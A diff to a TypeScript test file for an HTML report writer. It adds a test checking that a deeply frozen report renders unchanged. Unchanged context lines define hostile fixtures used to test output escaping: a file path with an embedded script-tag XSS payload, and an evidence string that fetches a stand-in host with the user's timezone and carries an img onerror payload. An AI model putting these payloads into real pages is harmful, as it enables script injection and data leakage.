@@ -6,6 +6,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { SCHEMA_VERSION, type Report } from '../../src/report/model.js';
 import { escapeHtml, HTML_RENDER_LIMITS, pairPagePaths, withPairPages, writeHtmlReport } from '../../src/report/reporters/html.js';
 import type { Finding, PairDiff } from '../../src/types.js';
+import { flagshipReport } from './report-fixtures.js';
 
 const HOSTILE_PATH = 'lib/<script>alert(1)</script>.js';
 const HOSTILE_EVIDENCE = 'fetch("https://x.example/" + Intl.DateTimeFormat().resolvedOptions().timeZone) <img src=x onerror=alert(2)>';
@@ -179,6 +180,25 @@ describe('writeHtmlReport', () => {
     }
     const page = await readFile(path.join(out, written[0]!), 'utf8');
     expect(page).toContain('href="../index.html"');
+  });
+
+  it('changes nothing it is given: a deeply frozen report and diffs render as they do unfrozen', async () => {
+    const deepFreeze = <T>(value: T): T => {
+      if (value && typeof value === 'object' && !Object.isFrozen(value)) {
+        Object.freeze(value);
+        for (const v of Object.values(value)) deepFreeze(v);
+      }
+      return value;
+    };
+    const plain = flagshipReport();
+    const frozen = deepFreeze(flagshipReport());
+    const before = JSON.stringify(frozen);
+    // Modules are strict: a write to a frozen object throws here instead of passing silently.
+    const written = await writeHtmlReport(frozen.report, frozen.diffs, out);
+    expect(JSON.stringify(frozen)).toBe(before);
+    const again = path.join(tmp, 'plain');
+    await writeHtmlReport(plain.report, plain.diffs, again);
+    for (const rel of written) expect(await readFile(path.join(out, rel), 'utf8')).toBe(await readFile(path.join(again, rel), 'utf8'));
   });
 
   it('shows versions, pairs, findings and lifecycle on the index', async () => {
